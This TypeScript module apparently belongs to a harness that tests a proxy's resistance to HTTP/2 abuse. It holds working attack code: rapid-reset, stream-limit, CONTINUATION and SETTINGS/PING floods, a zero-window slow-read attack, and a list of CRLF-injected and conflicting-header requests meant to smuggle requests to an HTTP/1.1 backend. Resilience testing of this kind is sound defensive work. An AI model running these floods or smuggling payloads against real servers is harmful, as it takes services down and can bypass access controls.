import { setTimeout as wait } from 'node:timers/promises';
import type { TLSSocket } from 'node:tls';
import type { Attack, Attacker } from './attack.ts';
import { block, END_HEADERS, END_STREAM, frame, number, PREFACE, setting, TYPE } from './http2-frames.ts';

const CONNECTIONS = 4;
const CANCEL = number(8);
const INITIAL_WINDOW_SIZE = 4;

const request = (path: string, more: readonly (readonly [string, string])[] = [], method = 'GET'): Buffer =>
  block([
    [':method', method],
    [':scheme', 'https'],
    [':authority', 'sea.example.org'],
    [':path', path],
    ...more,
  ]);
const GET = request('/api/locations?nowhere');

const opened = async (attacker: Attacker, ...settings: Buffer[]): Promise<TLSSocket | null> => {
  const socket = await attacker.socket().catch(() => null);
  if (!socket) attacker.count('refused');
  socket?.write(Buffer.concat([PREFACE, frame(TYPE.settings, 0, 0, Buffer.concat(settings))]));
  return socket;
};

/** Whether the socket still takes bytes; waits while its buffer is full. */
async function canWrite(socket: TLSSocket): Promise<boolean> {
  for (let time = 0; socket.writableLength > 500_000 && time < 20; time += 1) await wait(5);
  return socket.writable;
}

/** Writes what `bytes` makes for each next stream, on some connections, which are opened again when they are ended. */
const flood =
  (bytes: (stream: number) => Buffer, atOnce = 50) =>
  async (attacker: Attacker): Promise<void> => {
    const one = async () => {
      while (!attacker.isOver()) {
        const socket = await opened(attacker);
        if (!socket) return;
        let stream = 1;
        socket.resume();
        while (!attacker.isOver() && (await canWrite(socket))) {
          const frames = Array.from({ length: atOnce }, (_, index) => bytes(stream + 2 * index));
          stream += 2 * atOnce;
          socket.write(Buffer.concat(frames));
          attacker.count(`${atOnce} sent`);
          await wait(5);
        }
        attacker.count(socket.writable ? 'open to the end' : 'ended by the proxy');
        socket.destroy();
      }
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, one));
  };

/** Header lists that HTTP/1.1 behind the proxy would read otherwise. */
const ODD_REQUESTS = [
  request('/nowhere', [['transfer-encoding', 'chunked']], 'POST'),
  request(
    '/nowhere',
    [
      ['content-length', '0'],
      ['content-length', '50'],
    ],
    'POST',
  ),
  request('/nowhere', [['content-length', '-1']], 'POST'),
  request('/nowhere', [
    ['connection', 'close'],
    ['te', 'x'],
  ]),
  request('/nowhere', [['x', 'y\r\nHost: elsewhere.example']]),
  request('/nowhere', [['x: y\r\nhost', 'elsewhere.example']]),
  request('/nowhere', [
    ['Upper-Case', 'x'],
    ['', 'x'],
    [':late', 'x'],
  ]),
  request('/nowhere HTTP/1.1\r\nHost: elsewhere.example\r\nX: y'),
  request('nowhere'),
  request('*'),
  request('/nowhere', [], 'GET /metrics HTTP/1.1\r\nX: y'),
  request('/nowhere', [], 'CONNECT'),
  request('/nowhere', [['host', 'elsewhere.example']]),
  block([[':method', 'GET']]),
  block([
    [':method', 'GET'],
    [':method', 'POST'],
    [':path', '/'],
    [':scheme', 'https'],
    [':authority', 'x y'],
  ]),
  request(`/${'x'.repeat(12_000)}`),
];

export const http2: Attack[] = [
  {
    name: 'streams that are reset at once',
    protocols: ['HTTP/2'],
    run: flood((stream) =>
      Buffer.concat([
        frame(TYPE.headers, END_STREAM | END_HEADERS, stream, GET),
        frame(TYPE.reset, 0, stream, CANCEL),
      ]),
    ),
  },
  {
    name: 'more streams than are allowed',
    protocols: ['HTTP/2'],
    run: flood((stream) => frame(TYPE.headers, END_HEADERS, stream, request('/auth/login', [], 'POST'))),
  },
  {
    name: 'header blocks without an end',
    protocols: ['HTTP/2'],
    run: flood((stream) =>
      stream === 1
        ? frame(TYPE.headers, END_STREAM, 1, GET)
        : frame(TYPE.continuation, 0, 1, block([['x', 'y'.repeat(1000)]])),
    ),
  },
  {
    name: 'settings and pings without end',
    protocols: ['HTTP/2'],
    run: flood(() =>
      Buffer.concat([
        frame(TYPE.settings, 0, 0, setting(INITIAL_WINDOW_SIZE, 1000)),
        frame(TYPE.ping, 0, 0, Buffer.alloc(8)),
      ]),
    ),
  },
  {
    name: 'header lists that HTTP/1.1 reads otherwise',
    protocols: ['HTTP/2'],
    run: (attacker) =>
      attacker.repeat(4, async (index) => {
        const socket = await opened(attacker);
        if (!socket) return;
        const payload = ODD_REQUESTS[index % ODD_REQUESTS.length] as Buffer;
        socket.write(frame(TYPE.headers, END_STREAM | END_HEADERS, 1, payload));
        const closed = new Promise((resolve) => socket.once('close', resolve));
        const [chunks] = [[] as Buffer[]];
        socket.on('data', (chunk: Buffer) => chunks.push(chunk));
        await Promise.race([closed, wait(150)]);
        socket.destroy();
        for (const what of framesIn(Buffer.concat(chunks))) attacker.count(what);
      }),
  },
  {
    name: 'streams whose answers nobody takes',
    protocols: ['HTTP/2'],
    run: async (attacker) => {
      const one = async () => {
        const socket = await opened(attacker, setting(INITIAL_WINDOW_SIZE, 0));
        if (!socket) return;
        socket.resume();
        for (let stream = 1; stream < 200; stream += 2)
          socket.write(frame(TYPE.headers, END_STREAM | END_HEADERS, stream, request('/api/docs/json')));
        while (!attacker.isOver() && socket.writable) await wait(50);
        attacker.count(socket.writable ? 'open to the end' : 'ended by the proxy');
      };
      await Promise.all(Array.from({ length: CONNECTIONS }, one));
    },
  },
];

/** The kinds of frames in what came back, but for settings. */
function framesIn(bytes: Buffer): string[] {
  const found: string[] = [];
  const names = Object.entries(TYPE);
  for (let at = 0; at + 9 <= bytes.length; at += 9 + bytes.readUIntBE(at, 3)) {
    const [name = 'other'] = names.find(([, type]) => type === bytes[at + 3]) ?? [];
    if (name !== 'settings' && name !== 'windowUpdate' && name !== 'data') found.push(name);
  }
  return found;
}
